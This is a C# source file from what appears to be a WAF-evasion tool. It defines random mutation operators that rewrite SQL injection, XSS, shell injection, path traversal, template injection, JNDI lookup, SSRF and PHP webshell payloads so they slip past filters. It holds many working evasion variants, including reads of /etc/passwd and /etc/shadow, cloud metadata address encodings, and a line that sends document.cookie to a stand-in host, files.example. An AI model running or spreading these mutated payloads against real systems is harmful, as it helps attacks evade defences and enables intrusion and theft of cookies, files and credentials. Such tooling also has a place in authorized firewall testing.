using System.Text;
using System.Text.RegularExpressions;

namespace WafOperator.Evasion.Payloads;

/// <summary>A way to write an attack differently so that it still does the same to what it is for.</summary>
internal sealed record Operator(string Name, Func<Family, bool> IsFor, Func<string, Random, string> Apply);

/// <summary>All of them. What they leave is what a database, a browser, a shell or a server still takes.</summary>
internal static partial class Operators
{
    private static readonly string[] SqlGaps = ["/**/", "\t", "\n", "  ", "/*ab*/", "\u000b", "\f", "\r\n", "/*!*/",
        "--x\n"];
    private static readonly string[] ShellGaps = ["${IFS}", "\t", "  ", "$IFS$9", "${IFS%??}"];
    private static readonly string[] MarkupGaps = ["/", "\n", "\t", "\f", " / ", "  "];
    private static readonly string[] Truths =
        ["2>1", "'a'='a'", "3 between 2 and 4", "1 in (1)", "'b' like 'b'", "not 1=2", "1<2", "true", "~0", "5-4"];
    private static readonly string[] Readers = ["tac", "head", "nl", "more", "less", "od -c", "c''at", "c\\at",
        "/bin/cat", "ca$@t"];
    private static readonly string[] Calls =
    [
        "confirm(1)", "prompt(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "window[\"alert\"](1)",
            "[1].find(alert)",
        "eval(atob('YWxlcnQoMSk='))", "\\u0061lert(1)", "self.alert(1)", "setTimeout('ale'+'rt(1)')", "print()",
        "import('//files.example/a.js')", "location='//files.example/?'+document.cookie", "fetch('//files.example/')",
    ];
    private static readonly string[] Handlers =
        ["onpointerenter", "onfocus", "onclick", "onanimationend", "ontoggle", "onwheel", "oninput", "onpageshow",
            "oncut"];
    private static readonly string[] Dots = ["..\\", "..;/", "..//", "./../", ".%2e/", "%2e%2e/", "..%2f", "....//",
        "..%5c"];
    private static readonly string[] Local =
        ["127.1", "[::1]", "0x7f000001", "2130706433", "0", "localhost", "127.0.0.1.nip.io", "[::ffff:127.0.0.1]"];

    public static IReadOnlyList<Operator> All { get; } =
    [
        new("case", f => f is Family.Sql or Family.Script, (t, r) => Each(t, r, 50, c =>
            char.IsAsciiLetterLower(c) ? char.ToUpperInvariant(c) : c)),
        new("sql gaps", Is(Family.Sql), (t, r) => Gaps(t, r, SqlGaps)),
        new("sql versioned", Is(Family.Sql), (t, r) => One(SqlWords(), t, r, m => $"/*!50000{m.Value}*/")),
        new("sql truth", Is(Family.Sql), (t, r) => t.Replace("1=1", Pick(r, Truths), StringComparison.Ordinal)),
        new("sql words", Is(Family.Sql), (t, r) => Swap(t, r, [(" or ", " || "), (" and ", " && "), ("union select",
            "union all select"), ("union select", "union distinct select"), ("-- -", "#"), ("-- -", ";%00"),
            ("sleep(6)", "benchmark(9999999,md5(7))"), ("count(*)", "max(id)")])),
        new("sql brackets", Is(Family.Sql), (t, r) => One(SqlNumbers(), t, r, m => $"({m.Value})")),
        new("sql numbers", Is(Family.Sql), (t, r) => One(SqlNumbers(), t, r, m => Pick(r, [m.Value + "e0",
            m.Value + ".0", "0x" + int.Parse(m.Value).ToString("x"), "-(-" + m.Value + ")"]))),
        new("sql prefix", Is(Family.Sql), (t, r) => Pick(r, ["a", "-1", "1)", "shoes", "42"]) + t),
        new("script call", Is(Family.Script), (t, r) => ScriptCalls().Replace(t, _ => Pick(r, Calls), 1)),
        new("script gaps", Is(Family.Script), (t, r) => t.Contains('<', StringComparison.Ordinal) ? Gaps(t, r,
            MarkupGaps) : t),
        new("script handler", Is(Family.Script), (t, r) => ScriptHandlers().Replace(t, _ => Pick(r, Handlers), 1)),
        new("script element", Is(Family.Script), (t, r) => Swap(t, r, [("<svg", "<details open"), ("<img src=x",
            "<video src=x"), ("<img src=x", "<input autofocus"), ("<svg", "<xss style=animation-name:x"), ("<script>",
            "<script/x>"), ("<script>", "<script src=data:,")])),
        new("script scheme", Is(Family.Script), (t, r) => Swap(t, r, [("javascript:", "java\tscript:"),
            ("javascript:", "JaVaScRiPt:"), ("javascript:", "javascript&colon;"), ("javascript:",
            "\u0001javascript:"), ("javascript:", "javascript://%0a")])),
        new("script entities", Is(Family.Script), (t, r) => One(Letters(), t, r, m => $"&#{(int)m.Value[0]};")),
        new("shell gaps", Is(Family.Command), (t, r) => Gaps(t, r, ShellGaps)),
        new("shell separator", Is(Family.Command), (t, r) => ShellSeparators().Replace(t, _ => Pick(r, ["\n", "||",
            "&", "|", ";", "\r\n", "%0a", "&&", "'\n"]), 1)),
        new("shell reader", Is(Family.Command), (t, r) => t.Replace("cat ", Pick(r, Readers) + " ",
            StringComparison.Ordinal)),
        new("shell quotes", Is(Family.Command), (t, r) => One(ShellWords(), t, r, m => m.Value.Insert(1, Pick(r,
            ["''", "\"\"", "\\", "$@", "$()", "``"])))),
        new("shell globs", f => f is Family.Command or Family.Traversal, (t, r) => Globs(t, r)),
        new("shell prefix", Is(Family.Command), (t, r) => Pick(r, ["8.8.8.8", "report.pdf", "a", "name", "-n 1"]) + t),
        new("dots", Is(Family.Traversal), (t, r) => One(ParentFolders(), t, r, _ => Pick(r, Dots))),
        new("dots all", Is(Family.Traversal), (t, r) => { var dots = Pick(r, Dots); return ParentFolders().Replace(t,
            _ => dots); }),
        new("path prefix", Is(Family.Traversal), (t, r) => Pick(r, ["images/", "docs/", "./", "/var/www/html/",
            "file:", "a/b/c/"]) + t),
        new("path slashes", Is(Family.Traversal), (t, r) => One(Slashes(), t, r, _ => Pick(r, ["//", "/./",
            "/x/../"]))),
        new("path end", Is(Family.Traversal), (t, r) => t + Pick(r, ["%00.png", "?.png", "/.", "#.html", "%00"])),
        new("template gaps", Is(Family.Template), (t, r) => Swap(t, r, [("{{", "{{ "), ("{{", "{{- "), ("}}", " }}"),
            ("{{", "{{\n"), ("(", " ("), (".", " . ")])),
        new("template names", Is(Family.Template), (t, r) => Swap(t, r, [(".__class__", "['__cla'+'ss__']"),
            (".__class__", "|attr('__class__')"), ("config", "request"), ("7*7", "7*'7'"), ("7*7", "191*7"), ("7*7",
            "[].length"), ("system", "exec"), ("'id'", "'i'+'d'"), ("popen", "pop''en")])),
        new("template frame", Is(Family.Template), (t, r) => Swap(t, r, [("{{", "{%print("), ("${", "#{"), ("${",
            "*{"), ("<%=", "<%==")])),
        new("lookup", Is(Family.Lookup), (t, r) => Swap(t, r, [("jndi", "${lower:j}ndi"), ("jndi",
            "${::-j}${::-n}di"), ("jndi", "jn${env:X:-}di"), ("ldap", "rmi"), ("ldap", "${lower:l}dap"), ("ldap",
            "dns"), ("jndi:", "jndi${env:NaN:-:}"), ("files.example", "127.0.0.1#files.example")])),
        new("address", Is(Family.Request), (t, r) => Swap(t, r, [("127.0.0.1", Pick(r, Local)), ("169.254.169.254",
            "2852039166"), ("169.254.169.254", "0xa9fea9fe"), ("169.254.169.254", "[::ffff:a9fe:a9fe]"), ("http://",
            "HTTP://"), ("http://", "http:\\\\"), ("http://", "//"), ("http://", "http://files.example@"),
            ("file:///", "file:/"), ("file:///", "file://localhost/"), ("/latest/meta-data/", "/latest/user-data"),
            ("/_flushall", "/_%2a1")])),
        new("program", Is(Family.Program), (t, r) => Swap(t, r, [("<?php", "<?="), ("<?php", "<?"), ("system",
            "passthru"), ("system", "('sys'.'tem')"), ("$_GET['c']", "getallheaders()['x']"), ("$_GET['c']",
            "$_COOKIE['c']"), ("system(", "$f='system';$f("), ("; ?>", ";"), ("O:8", "O:+8"), ("s:4", "S:4")])),
        new("escaped twice", _ => true, (t, r) => Each(t, r, 40, c => char.IsAsciiLetterOrDigit(c) ? null : Escape(c))),
        new("wide letters", f => f is Family.Sql or Family.Script, (t, r) => Each(t, r, 25, c =>
            c is > ' ' and < '~' && !char.IsAsciiLetterOrDigit(c) ? ((char)(c + 0xfee0)).ToString() : null)),
    ];

    private static Func<Family, bool> Is(Family family) => f => f == family;

    private static string Globs(string text, Random random) =>
        Swap(text, random, [("passwd", "pass??"), ("passwd", "p*d"), ("/etc/", "/e??/"), ("/etc/", "/etc/./"),
            ("/etc/", "//etc//"), ("/bin/", "/b?n/"), ("shadow", "shado?")]);

    private static string Pick(Random random, string[] from) => from[random.Next(from.Length)];

    private static string Escape(char c) => Uri.EscapeDataString(c.ToString());

    private static string Each(string text, Random random, int percent, Func<char, char> change) =>
        Each(text, random, percent, c => change(c).ToString());

    private static string Each(string text, Random random, int percent, Func<char, string?> change)
    {
        var changed = new StringBuilder();
        foreach (var c in text) changed.Append(random.Next(100) < percent ? change(c) ?? c.ToString() : c.ToString());
        return changed.ToString();
    }

    private static string Gaps(string text, Random random, string[] gaps) =>
        Each(text, random, 60, c => c == ' ' ? Pick(random, gaps) : null);

    /// <summary>Replaces one match out of all.</summary>
    private static string One(Regex regex, string text, Random random, Func<Match, string> replacement)
    {
        var matches = regex.Matches(text);
        if (matches.Count == 0) return text;
        var match = matches[random.Next(matches.Count)];
        return text[..match.Index] + replacement(match) + text[(match.Index + match.Length)..];
    }

    /// <summary>Replaces by one of the pairs that applies.</summary>
    private static string Swap(string text, Random random, (string From, string To)[] pairs)
    {
        var known = pairs.Where(p => text.Contains(p.From, StringComparison.Ordinal)).ToArray();
        if (known.Length == 0) return text;
        var (from, to) = known[random.Next(known.Length)];
        return text.Replace(from, to, StringComparison.Ordinal);
    }

    [GeneratedRegex("union|select|from|and|or|drop|table|where|case|when|then", RegexOptions.IgnoreCase)]
    private static partial Regex SqlWords();

    [GeneratedRegex(@"(?<![\w.])\d{1,4}(?![\w.])")]
    private static partial Regex SqlNumbers();

    [GeneratedRegex(@"alert\([a-z0-9.]*\)")]
    private static partial Regex ScriptCalls();

    [GeneratedRegex(@"\bon[a-z]+")]
    private static partial Regex ScriptHandlers();

    [GeneratedRegex("[a-z]")]
    private static partial Regex Letters();

    [GeneratedRegex(@"&&|\|\||[;|&]")]
    private static partial Regex ShellSeparators();

    [GeneratedRegex("[a-z]{2,}")]
    private static partial Regex ShellWords();

    [GeneratedRegex(@"\.\.[\\/]")]
    private static partial Regex ParentFolders();

    [GeneratedRegex("(?<=[a-z])/(?=[a-z])")]
    private static partial Regex Slashes();
}
